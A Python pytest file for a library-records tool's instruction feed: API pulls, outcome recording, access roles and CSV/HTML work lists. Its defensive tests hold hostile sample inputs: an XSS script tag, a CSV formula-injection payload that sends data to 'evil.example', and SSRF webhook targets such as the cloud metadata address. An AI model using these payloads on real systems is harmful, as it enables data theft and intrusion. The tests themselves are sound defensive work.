"""The instruction feed (issue 18): one instruction per applied action, pulled by sequence, answered with outcomes.

One installation for the module: the bundled samples imported and one night run (2026-11-22), as the README does.
Tests that record outcomes use instructions no other test touches (each takes its own by sequence).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from kodex.api.instruction_commands import CSV_COLUMNS, work_list
from kodex.api.web import create_app
from kodex.rules.ruleset import Ruleset
from kodex.services.instructions import Instruction
from kodex.services.setup import Workspace
from kodex.services.users import add_user
from kodex.store.schema import decision_log, instructions
from tests.support import SAMPLE, fresh_installation, kodex, ok

NIGHT = "2026-11-22"
LIBRARIES = ("kntb", "svkpk", "zdirec")


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory, ruleset: Ruleset) -> Iterator[Workspace]:
    with fresh_installation(tmp_path_factory.mktemp("feed"), ruleset) as (work, _):
        ok("import", str(SAMPLE))
        ok("run", "--as-of", NIGHT)
        yield work


@pytest.fixture(scope="module")
def api(night: Workspace, ruleset: Ruleset) -> TestClient:
    return TestClient(create_app(night, ruleset))


_tokens: dict[tuple[str, str], str] = {}


def token(work: Workspace, role: str, library: str = "kntb") -> dict[str, str]:
    key = (library, role)
    if key not in _tokens:
        _tokens[key] = add_user(work.engine, work.master, library, role, f"Test {role}")[1]
    return {"Authorization": f"Bearer {_tokens[key]}"}


def pull(api: TestClient, work: Workspace, library: str = "kntb", role: str = "librarian", **params: Any) -> Any:
    answer = api.get(f"/v1/libraries/{library}/instructions", params=params, headers=token(work, role, library))
    assert answer.status_code == 200, answer.text
    return answer.json()


def all_of(api: TestClient, work: Workspace, library: str) -> list[dict[str, Any]]:
    return pull(api, work, library, limit=1000)["instructions"]


# -- the outbox: one decision, one instruction ---------------------------------------------------------------------


@pytest.mark.parametrize("library", LIBRARIES)
def test_every_applied_decision_of_the_night_has_exactly_one_instruction_and_no_instruction_lacks_its_decision(
    night: Workspace, library: str
) -> None:
    with night.engine.connect() as connection:
        applied = {
            (row.id, row.action)
            for row in connection.execute(
                select(decision_log.c.id, decision_log.c.action).where(
                    decision_log.c.library == library,
                    decision_log.c.kind == "decision",
                    decision_log.c.outcome == "applied",
                )
            )
        }
        instructed = [
            (row.decision_id, row.action)
            for row in connection.execute(
                select(instructions.c.decision_id, instructions.c.action).where(instructions.c.library == library)
            )
        ]
    assert applied, f"the night applied nothing in {library}: the test would prove nothing"
    assert len(instructed) == len(set(instructed))
    assert set(instructed) == applied


@pytest.mark.parametrize("library", LIBRARIES)
def test_sequences_number_a_librarys_instructions_one_by_one_from_one(
    night: Workspace, api: TestClient, library: str
) -> None:
    sequences = [i["sequence"] for i in all_of(api, night, library)]
    assert sequences == list(range(1, len(sequences) + 1))


def test_a_second_run_at_the_same_day_writes_no_instruction(night: Workspace, api: TestClient) -> None:
    before = {library: len(all_of(api, night, library)) for library in LIBRARIES}
    ok("run", "--as-of", NIGHT)
    assert {library: len(all_of(api, night, library)) for library in LIBRARIES} == before


# -- pull ---------------------------------------------------------------------------------------------------------


def test_an_instruction_names_the_library_systems_id_what_to_do_by_when_and_why(
    night: Workspace, api: TestClient
) -> None:
    anonymise = next(i for i in all_of(api, night, "kntb") if i["action"] == "anonymise")
    assert anonymise["subject_type"] == "reader"
    assert anonymise["subject_id"].startswith("KN-")  # the sample's own ids: the library system's
    assert "remove name, address" in anonymise["what"]
    assert anonymise["rule"].startswith("kntb.") and anonymise["cite"]
    # kntb's policy: anonymise within 7 days of the night it was applied
    assert anonymise["due_on"] == "2026-11-29"
    assert anonymise["state"] == "pending" and anonymise["outcome"] is None
    assert set(anonymise) == {
        "id", "sequence", "library", "action", "subject_type", "subject_id", "decision_id", "rule", "cite", "what",
        "created_at", "due_on", "state", "overdue", "attempts", "outcome",
    }  # fmt: skip


def test_an_instruction_carries_no_personal_data_but_the_library_systems_id(night: Workspace, api: TestClient) -> None:
    records = [json.loads(line) for line in SAMPLE.read_text(encoding="utf-8").splitlines()]
    personal = [r.get("personal") or {} for r in records if r.get("library") == "kntb"]
    names = {p[k] for p in personal for k in ("last_name", "email", "address", "id_document") if p.get(k)}
    assert names, "the sample has no names: the test would prove nothing"
    body = json.dumps(all_of(api, night, "kntb"), ensure_ascii=False)
    assert not [n for n in names if n in body]


def test_pull_pages_by_sequence_with_after_and_next_after_until_the_last_page(
    night: Workspace, api: TestClient
) -> None:
    everything = [i["sequence"] for i in all_of(api, night, "svkpk")]
    seen: list[int] = []
    after = 0
    while True:
        page = pull(api, night, "svkpk", after=after, limit=7)
        seen += [i["sequence"] for i in page["instructions"]]
        if page["next_after"] is None:
            break
        after = page["next_after"]
    assert seen == everything


def test_pull_by_state_gives_only_that_state_and_overdue_only_open_ones_past_due(
    night: Workspace, api: TestClient
) -> None:
    pending = pull(api, night, "zdirec", state="pending", limit=1000)["instructions"]
    assert pending and all(i["state"] == "pending" for i in pending)
    overdue = pull(api, night, "zdirec", state="overdue", limit=1000)["instructions"]
    today = datetime.now(UTC).date()
    assert overdue, "the night of 2026-11-22 is long past: its instructions are due"
    assert all(i["overdue"] and i["state"] in {"pending", "delivered"} for i in overdue)
    assert all(date.fromisoformat(i["due_on"]) < today for i in overdue)


@pytest.mark.parametrize("role", ["director", "auditor", "library_admin", "scheduler"])
def test_only_the_integration_and_the_dpo_may_pull_instructions(night: Workspace, api: TestClient, role: str) -> None:
    answer = api.get("/v1/libraries/kntb/instructions", headers=token(night, role))
    assert answer.status_code == 403


def test_the_dpo_may_pull_instructions(night: Workspace, api: TestClient) -> None:
    assert pull(api, night, "kntb", role="dpo")["instructions"]


def test_a_librarys_integration_cannot_pull_or_answer_another_librarys_instructions(
    night: Workspace, api: TestClient
) -> None:
    theirs = all_of(api, night, "svkpk")[0]
    assert api.get("/v1/libraries/svkpk/instructions", headers=token(night, "librarian", "kntb")).status_code == 403
    answer = api.post(
        f"/v1/libraries/svkpk/instructions/{theirs['id']}/outcome", json={"outcome": "done"},
        headers=token(night, "librarian", "kntb"),
    )  # fmt: skip
    assert answer.status_code == 403
    # nor by naming it under its own library
    answer = api.post(
        f"/v1/libraries/kntb/instructions/{theirs['id']}/outcome", json={"outcome": "done"},
        headers=token(night, "librarian", "kntb"),
    )  # fmt: skip
    assert answer.status_code == 404


@pytest.mark.parametrize("params", [{"state": "finished"}, {"after": -1}, {"limit": 0}, {"limit": 1001}], ids=str)
def test_a_wrong_pull_parameter_is_422_naming_it(night: Workspace, api: TestClient, params: dict[str, Any]) -> None:
    answer = api.get("/v1/libraries/kntb/instructions", params=params, headers=token(night, "librarian"))
    assert answer.status_code == 422
    assert next(iter(params)) in answer.text


# -- outcomes -----------------------------------------------------------------------------------------------------


def _outcome(api: TestClient, work: Workspace, instruction: dict[str, Any], body: dict[str, Any]) -> Any:
    return api.post(
        f"/v1/libraries/{instruction['library']}/instructions/{instruction['id']}/outcome", json=body,
        headers=token(work, "librarian", instruction["library"]),
    )  # fmt: skip


def test_an_outcome_again_changes_nothing_and_a_conflicting_one_is_409(night: Workspace, api: TestClient) -> None:
    instruction = all_of(api, night, "kntb")[0]
    first = _outcome(api, night, instruction, {"outcome": "rejected", "code": "has_debt", "detail": "dluh 150 Kč"})
    assert first.status_code == 200, first.text
    assert first.json()["state"] == "rejected"
    assert first.json()["outcome"]["code"] == "has_debt"
    with night.engine.connect() as connection:
        logged = connection.execute(select(decision_log.c.id).where(decision_log.c.kind == "instruction_outcome")).all()
    again = _outcome(api, night, instruction, {"outcome": "rejected", "code": "has_debt"})
    assert again.status_code == 200 and again.json() == first.json()
    with night.engine.connect() as connection:
        assert (
            connection.execute(select(decision_log.c.id).where(decision_log.c.kind == "instruction_outcome")).all()
            == logged
        )  # the same outcome again: no second entry
    conflict = _outcome(api, night, instruction, {"outcome": "done"})
    assert conflict.status_code == 409
    assert pull(api, night, "kntb", limit=1)["instructions"][0]["state"] == "rejected"


def test_a_failed_instruction_may_be_done_later(night: Workspace, api: TestClient) -> None:
    instruction = all_of(api, night, "kntb")[1]
    assert _outcome(api, night, instruction, {"outcome": "failed", "code": "timeout"}).json()["state"] == "failed"
    assert _outcome(api, night, instruction, {"outcome": "done"}).json()["state"] == "done"


def test_an_outcome_is_a_log_entry_with_ids_and_the_code_never_the_detail_nor_the_subject_id(
    night: Workspace, api: TestClient
) -> None:
    instruction = all_of(api, night, "kntb")[2]
    detail = "Čtenář Jan Novák vrátil knihu"
    assert _outcome(api, night, instruction, {"outcome": "done", "code": "ok", "detail": detail}).status_code == 200
    with night.engine.connect() as connection:
        entries = [
            json.loads(text)
            for text in connection.execute(
                select(decision_log.c.entry).where(decision_log.c.kind == "instruction_outcome")
            ).scalars()
        ]
    entry = next(e for e in entries if e["details"]["instruction"] == instruction["id"])
    assert entry["outcome"] == "done" and entry["action"] == instruction["action"]
    assert entry["details"] == {
        "instruction": instruction["id"], "sequence": instruction["sequence"],
        "decision": instruction["decision_id"], "code": "ok",
    }  # fmt: skip
    assert entry["actor"]["role"] == "librarian"
    text = json.dumps(entry, ensure_ascii=False)
    assert "Novák" not in text and instruction["subject_id"] not in text


@pytest.mark.parametrize(
    "body",
    [
        {"outcome": "finished"},
        {"outcome": "not_carried_out"},  # the import's finding, never the library system's word
        {"outcome": "rejected", "code": "the reader Jan Novák owes money"},  # a code is logged: no free text
        {"outcome": "done", "note": "x"},
        {"outcome": "done", "detail": "x" * 2001},
    ],
    ids=["unknown", "not_carried_out", "free-text-code", "unknown-key", "long-detail"],
)
def test_a_wrong_outcome_body_is_422(night: Workspace, api: TestClient, body: dict[str, Any]) -> None:
    instruction = all_of(api, night, "zdirec")[0]
    answer = _outcome(api, night, instruction, body)
    assert answer.status_code == 422, answer.text


def test_an_outcome_for_an_unknown_instruction_is_404(night: Workspace, api: TestClient) -> None:
    answer = api.post(
        "/v1/libraries/kntb/instructions/00000000-0000-0000-0000-000000000000/outcome", json={"outcome": "done"},
        headers=token(night, "librarian"),
    )  # fmt: skip
    assert answer.status_code == 404


# -- the command line: list, the CSV work list, the printable one -------------------------------------------------


def test_kodex_instructions_list_jsonl_gives_what_the_pull_api_gives(night: Workspace, api: TestClient) -> None:
    listed = [
        json.loads(line)
        for line in ok("instructions", "list", "--library", "svkpk", "--format", "jsonl").stdout.splitlines()
    ]
    assert listed == all_of(api, night, "svkpk")


def test_a_filled_in_csv_work_list_records_each_outcome_once(night: Workspace, api: TestClient, tmp_path: Path) -> None:
    text = ok("instructions", "list", "--library", "svkpk", "--state", "pending", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert "odstraňte" in text or "označte" in text  # Czech by default: for the librarian who does it by hand
    rows[-1]["outcome"], rows[-2]["outcome"], rows[-2]["code"] = "done", "rejected", "has_checkouts"
    filled = tmp_path / "work.csv"
    with filled.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=CSV_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    said = ok("instructions", "outcome", "--library", "svkpk", "--csv", str(filled)).stdout
    assert "2 outcome(s) recorded" in said
    states = {i["id"]: (i["state"], (i["outcome"] or {}).get("code")) for i in all_of(api, night, "svkpk")}
    assert states[rows[-1]["id"]] == ("done", None)
    assert states[rows[-2]["id"]] == ("rejected", "has_checkouts")
    assert states[rows[0]["id"]] == ("pending", None)  # a row left empty is left alone
    assert (
        "0 outcome(s) recorded, 2 unchanged"
        in ok("instructions", "outcome", "--library", "svkpk", "--csv", str(filled)).stdout
    )


def test_a_csv_with_a_wrong_outcome_names_its_line_and_records_nothing_before_it(
    night: Workspace, tmp_path: Path
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("id,outcome\nabc,maybe\n", encoding="utf-8")
    result = kodex("instructions", "outcome", "--library", "svkpk", "--csv", str(bad))
    assert result.exit_code == 2
    assert "line 2" in result.output


def test_kodex_instructions_outcome_after_done_is_refused_with_exit_12(night: Workspace, api: TestClient) -> None:
    instruction = all_of(api, night, "zdirec")[-1]
    ok("instructions", "outcome", instruction["id"], "--library", "zdirec", "--outcome", "done")
    result = kodex("instructions", "outcome", instruction["id"], "--library", "zdirec", "--outcome", "rejected")
    assert result.exit_code == 12
    assert "done already" in result.output


def test_kodex_instructions_outcome_needs_an_id_or_a_csv_not_both(night: Workspace) -> None:
    assert kodex("instructions", "outcome", "--library", "zdirec", "--outcome", "done").exit_code == 2
    assert (
        kodex("instructions", "outcome", "x", "--library", "zdirec", "--csv", "-", "--outcome", "done").exit_code == 2
    )


def test_the_printable_work_list_is_czech_names_id_what_by_when_and_article(night: Workspace) -> None:
    page = ok("instructions", "list", "--library", "kntb", "--format", "html").stdout
    assert page.startswith("<!doctype html>") and 'lang="cs"' in page
    assert "Pracovní seznam" in page and "Co udělat" in page and "Do kdy" in page
    assert "KN-" in page and "2026-11-29" in page
    english = ok("instructions", "list", "--library", "kntb", "--format", "html", "--lang", "en").stdout
    assert "Work list for the library system" in english


def test_the_work_list_escapes_what_a_library_system_sent_as_an_id() -> None:
    crafted = Instruction(
        "i-1", 1, "kntb", "anonymise", "reader", "<script>alert(1)</script>", "d-1", "kntb.rule", "4.4",
        "remove", datetime.now(UTC), date(2026, 1, 1), "pending", True, 0, None, None, None,
    )  # fmt: skip
    page = work_list([crafted], "cs", "Knihovna <b>", "2026-12-07")
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "<b>" not in page


@pytest.mark.parametrize("args", [["--state", "finished"], ["--format", "xml"], ["--lang", "de"]])
def test_kodex_instructions_list_refuses_a_wrong_option_with_exit_2(night: Workspace, args: list[str]) -> None:
    assert kodex("instructions", "list", "--library", "kntb", *args).exit_code == 2


# -- what a library's admin, a crafted id and a second answer cannot do -------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://ils.example.org/kodex",  # cleartext: the instruction names the reader by the library system's id
        "https://127.0.0.1/kodex",
        "https://10.1.2.3/kodex",
        "https://169.254.169.254/latest/meta-data",
        "https://[::1]/kodex",
        "https://localhost/kodex",
    ],
)
def test_a_librarys_admin_cannot_point_the_webhook_into_the_servers_network(
    night: Workspace, api: TestClient, url: str
) -> None:
    answer = api.put("/v1/libraries/kntb/webhook", json={"url": url}, headers=token(night, "library_admin"))
    assert answer.status_code == 422, answer.text
    assert "kodex webhooks set" in answer.text  # it says who may set such an endpoint


def test_the_servers_command_line_may_set_an_endpoint_on_the_librarys_own_network(night: Workspace) -> None:
    result = ok("webhooks", "set", "--library", "zdirec", "--url", "http://10.1.2.3/kodex")
    assert result.stdout.strip().startswith("whsec_")


def test_a_work_list_csv_never_hands_a_spreadsheet_a_formula_from_a_library_systems_id() -> None:
    crafted = Instruction(
        "i-2", 2, "kntb", "anonymise", "reader", '=HYPERLINK("http://evil.example/?"&A1,"open")', "d-2",
        "kntb.rule", "4.4", "remove", datetime.now(UTC), date(2026, 1, 1), "pending", False, 0, None, None, None,
    )  # fmt: skip
    from kodex.api import instruction_commands  # noqa: PLC0415

    buffer = io.StringIO()
    stdout, instruction_commands.sys.stdout = instruction_commands.sys.stdout, buffer  # type: ignore[attr-defined]
    try:
        instruction_commands._csv([crafted], "cs")
    finally:
        instruction_commands.sys.stdout = stdout  # type: ignore[attr-defined]
    row = next(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert row["subject_id"].startswith("'=")


def test_a_rejection_given_again_with_another_code_is_409(night: Workspace, api: TestClient) -> None:
    instruction = all_of(api, night, "kntb")[3]
    assert _outcome(api, night, instruction, {"outcome": "rejected", "code": "has_debt"}).status_code == 200
    assert _outcome(api, night, instruction, {"outcome": "rejected", "code": "has_checkouts"}).status_code == 409


def test_an_outcome_the_dpo_records_is_recorded_as_the_dpos(night: Workspace, api: TestClient) -> None:
    instruction = all_of(api, night, "kntb")[4]
    answer = api.post(
        f"/v1/libraries/kntb/instructions/{instruction['id']}/outcome", json={"outcome": "done"},
        headers=token(night, "dpo"),
    )  # fmt: skip
    assert answer.status_code == 200
    with night.engine.connect() as connection:
        by = connection.execute(select(instructions.c.outcome_by).where(instructions.c.id == instruction["id"]))
        assert by.scalar_one() == "dpo"


def test_a_csv_naming_a_final_instruction_otherwise_records_none_of_its_rows(
    night: Workspace, api: TestClient, tmp_path: Path
) -> None:
    mine = all_of(api, night, "zdirec")[5:7]
    ok("instructions", "outcome", mine[1]["id"], "--library", "zdirec", "--outcome", "done")
    filled = tmp_path / "mixed.csv"
    filled.write_text(f"id,outcome\n{mine[0]['id']},done\n{mine[1]['id']},rejected\n", encoding="utf-8")
    result = kodex("instructions", "outcome", "--library", "zdirec", "--csv", str(filled))
    assert result.exit_code == 12
    assert "Nothing was recorded" in result.output
    states = {i["id"]: i["state"] for i in all_of(api, night, "zdirec")}
    assert states[mine[0]["id"]] == "pending"


@pytest.mark.parametrize(
    "args",
    [["list", "--library", "nowhere"], ["outcome", "x", "--library", "nowhere", "--outcome", "done"]],
    ids=["list", "outcome"],
)
def test_an_instructions_command_for_a_library_the_policy_lacks_exits_2_naming_the_ones_it_has(
    night: Workspace, args: list[str]
) -> None:
    result = kodex("instructions", *args)
    assert result.exit_code == 2
    assert "kntb" in result.output and "Traceback" not in result.output
